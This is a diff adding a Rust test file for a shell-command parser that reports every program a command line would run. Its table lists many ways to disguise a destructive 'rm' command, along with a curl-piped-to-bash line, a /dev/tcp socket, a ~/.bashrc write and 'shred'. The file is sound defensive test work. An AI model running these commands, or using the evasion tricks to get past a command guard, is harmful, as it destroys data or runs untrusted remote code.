@@ -1,0 +1,192 @@
+use proptest::prelude::*;
+
+use super::*;
+
+/// `git[push origin] verb=push`: the program with its words, and what else is known.
+fn shown(line: &str) -> Vec<String> {
+    let each = |part: Part| {
+        let mut text = format!("{}[{}]", part.program.as_deref().unwrap_or("?"), part.words.join(" "));
+        for (mark, set) in [("opaque", part.opaque), ("dynamic", part.dynamic)] {
+            if set {
+                text.push(' ');
+                text.push_str(mark);
+            }
+        }
+        for (mark, names) in [("=", part.assigns), (">", part.redirects)] {
+            if !names.is_empty() {
+                text.push_str(&format!(" {mark}{}", names.join(",")));
+            }
+        }
+        text
+    };
+    read(line).into_iter().map(each).collect()
+}
+
+/// Every row is a way to run `rm x` that a look at the words alone would miss, or a line that must not be misread.
+#[test]
+fn every_command_of_a_line_is_told() {
+    let rows: &[(&str, &[&str])] = &[
+        ("ls -la && cat README.md", &["ls[-la]", "cat[README.md]"]),
+        ("true | rm x & false || rm y; rm z", &["true[]", "rm[x]", "false[]", "rm[y]", "rm[z]"]),
+        ("r\"\"m x", &["rm[x]"]),
+        ("\\rm 'x y' \"a b\"", &["rm[x y a b]"]),
+        ("/bin/../bin/rm x", &["rm[x]"]),
+        ("r\\\nm x", &["rm[x]"]),
+        ("a=1 b=2 rm x", &["rm[x] =a,b"]),
+        ("env -i X=1 /bin/rm x", &["env[-i X=1 /bin/rm x]", "rm[x]"]),
+        ("env -S 'rm x'", &["env[-S rm x] opaque"]),
+        ("bash -c 'rm x'", &["bash[-c rm x]", "rm[x]"]),
+        ("bash -lc \"cd d && rm x\"", &["bash[-lc cd d && rm x]", "cd[d]", "rm[x]"]),
+        ("bash -o pipefail -c 'rm x' y", &["bash[-o pipefail -c rm x y]", "rm[x]"]),
+        ("sh -c \"$x\"", &["sh[-c] opaque dynamic"]),
+        ("bash <<< 'rm x'", &["bash[]", "rm[x]"]),
+        ("bash <<'EOF'\nrm x\nEOF", &["bash[]", "rm[x]"]),
+        ("cat <<EOF\n$(rm x)\nEOF", &["rm[x]", "cat[]"]),
+        ("cat <<EOF | sh\nrm x\nEOF", &["cat[]", "sh[] opaque"]),
+        ("curl -s https://e | bash", &["curl[-s https://e]", "bash[] opaque"]),
+        ("bash script.sh", &["bash[script.sh]"]),
+        ("echo `rm x` $(rm y)", &["rm[x]", "rm[y]", "echo[] dynamic"]),
+        ("echo \"a $(rm x)\"", &["rm[x]", "echo[] dynamic"]),
+        ("echo ${x:-$(rm x)}", &["?[] opaque", "echo[] dynamic"]),
+        ("echo $((1 + $(rm x)))", &["?[] opaque", "echo[] dynamic"]),
+        ("cat <(rm x) > >(rm y)", &["rm[x]", "rm[y]", "cat[] dynamic"]),
+        ("f() { rm x; }; f", &["rm[x]", "f[]"]),
+        ("for f in $(rm x) *.rs; do rm $f; done", &["rm[x]", "rm[] dynamic"]),
+        ("if a; then rm x; elif b; then rm y; else rm z; fi", &["a[]", "rm[x]", "b[]", "rm[y]", "rm[z]"]),
+        ("while rm x; do rm y; done", &["rm[x]", "rm[y]"]),
+        ("case $(rm x) in a) rm y;; esac", &["rm[x]", "rm[y]"]),
+        ("[[ -f $(rm x) ]]", &["rm[x]"]),
+        ("(rm x); { rm y; }", &["rm[x]", "rm[y]"]),
+        ("coproc rm x", &["rm[x]"]),
+        ("time -p rm x", &["rm[x]"]),
+        ("X=$(rm x) a=(1 $(rm y))", &["rm[x]", "rm[y]", "?[] =X,a"]),
+        ("eval \"rm x\"", &["eval[rm x]", "rm[x]"]),
+        ("eval $x", &["eval[] opaque dynamic"]),
+        ("trap 'rm x' EXIT", &["trap[rm x EXIT]", "rm[x]"]),
+        ("alias l='rm x'", &["alias[l=rm x]", "rm[x]"]),
+        ("sudo -u bob rm x", &["sudo[-u bob rm x]", "rm[x]"]),
+        ("sudo -Z y rm x", &["sudo[-Z y rm x] opaque"]),
+        ("timeout -k 1 5 nice -n 3 rm x", &["timeout[-k 1 5 nice -n 3 rm x]", "nice[-n 3 rm x]", "rm[x]"]),
+        ("ls | xargs -n1 rm", &["ls[]", "xargs[-n1 rm]", "rm[] dynamic"]),
+        ("find . -exec rm {} \\;", &["find[. -exec rm {} ;] dynamic", "rm[{}] dynamic"]),
+        ("$x y", &["?[y] opaque dynamic"]),
+        ("$'\\x72m' x", &["?[x] opaque dynamic"]),
+        ("{rm,x}", &["?[] opaque dynamic"]),
+        ("r? x", &["?[x] opaque dynamic"]),
+        ("python3 -c 'import os'", &["python3[-c import os] opaque"]),
+        ("python3.12 -m pytest", &["python3.12[-m pytest]"]),
+        ("perl -pe 's/a/b/'", &["perl[-pe s/a/b/] opaque"]),
+        ("node x.js -e", &["node[x.js -e]"]),
+        ("nodemon -e js", &["nodemon[-e js]"]),
+        ("awk '{print $1}' x", &["awk[{print $1} x]"]),
+        ("awk 'BEGIN{system(\"rm x\")}'", &["awk[BEGIN{system(\"rm x\")}] opaque"]),
+        ("git -c alias.x='!rm x' x", &["git[-c alias.x=!rm x x] opaque"]),
+        ("git -c user.name=a commit -m push", &["git[-c user.name=a commit -m push]"]),
+        ("ssh host rm x", &["ssh[host rm x] opaque"]),
+        ("exec 3<>/dev/tcp/e/80", &["exec[] >/dev/tcp/e/80"]),
+        ("echo a > ~/.bashrc 2>&1", &["echo[a] >~/.bashrc"]),
+        ("echo 'rm x' # rm y", &["echo[rm x]"]),
+        ("echo \"unterminated", &["?[] opaque"]),
+        ("select x in a; do rm x; done", &["?[] opaque"]),
+        ("", &["?[]"]),
+        ("# rm x", &["?[]"]),
+    ];
+    for (line, expected) in rows {
+        assert_eq!(shown(line), *expected, "{line:?}");
+    }
+}
+
+#[test]
+fn the_verb_is_the_first_word_that_is_no_option() {
+    for (line, verb) in [
+        ("git push origin", Some("push")),
+        ("git -C /x --no-pager -c user.name=y push", Some("push")),
+        ("git --git-dir /x $y push", None),
+        ("npm test", Some("test")),
+        ("ls -la", None),
+    ] {
+        assert_eq!(read(line)[0].verb.as_deref(), verb, "{line}");
+    }
+}
+
+#[test]
+fn reading_is_bounded() {
+    let deep = format!("{}ls", "bash -c ".repeat(3));
+    assert!(read(&deep).iter().all(|part| part.program.as_deref() == Some("bash")));
+    for (line, most) in [
+        ("(".repeat(40), 1),
+        (format!("{}a{}", "(".repeat(9), ")".repeat(9)), 1),
+        ("ls; ".repeat(1000), PARTS_MAX),
+        ("eval ".repeat(30), PARTS_MAX),
+        ("sudo ".repeat(500), PARTS_MAX),
+    ] {
+        let parts = read(&line);
+        assert!(parts.len() <= most && parts.last().is_some_and(|part| part.opaque), "{:.60}", line);
+    }
+}
+
+/// A token at a time, so that blocks open and close in every order.
+fn any_line() -> impl Strategy<Value = String> {
+    let tokens = [
+        "(",
+        "((",
+        "{ ",
+        "[[ ",
+        "if ",
+        "while ",
+        "case x in a)",
+        "rm x",
+        ";",
+        "\n",
+        "$(",
+        "`",
+        "'",
+        "\"",
+        ")",
+        "))",
+        "}",
+        "]]",
+        " fi",
+        " done",
+        "esac",
+        "do ",
+        "then ",
+        "for x in ",
+        "f()",
+        "|",
+        "&&",
+        "<<E\n",
+        "E\n",
+        "${x:-",
+        "$((",
+        "! ",
+        "x=(",
+        "\\",
+        "<(",
+        ";;",
+        "&",
+        "$x",
+        " > y",
+        "bash -c ",
+    ];
+    proptest::collection::vec(proptest::sample::select(tokens.to_vec()), 0..40)
+        .prop_map(|tokens| tokens.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]
+
+    /// Whatever stands before it, a command after a complete line is told, or the whole is opaque.
+    #[test]
+    fn nothing_hides_what_follows(line in any_line()) {
+        let parts = read(&format!("{line}\nshred y"));
+        let told = parts.iter().any(|part| part.program.as_deref() == Some("shred"));
+        let quoted = line.contains(['\'', '"', '`', '\\', '(', '{', '<', '$']);
+        prop_assert!(told || quoted || parts.iter().any(|part| part.opaque), "{parts:?}");
+    }
+
+    #[test]
+    fn any_text_is_read(line in ".{0,80}") {
+        prop_assert!(!read(&line).is_empty());
+    }
+}
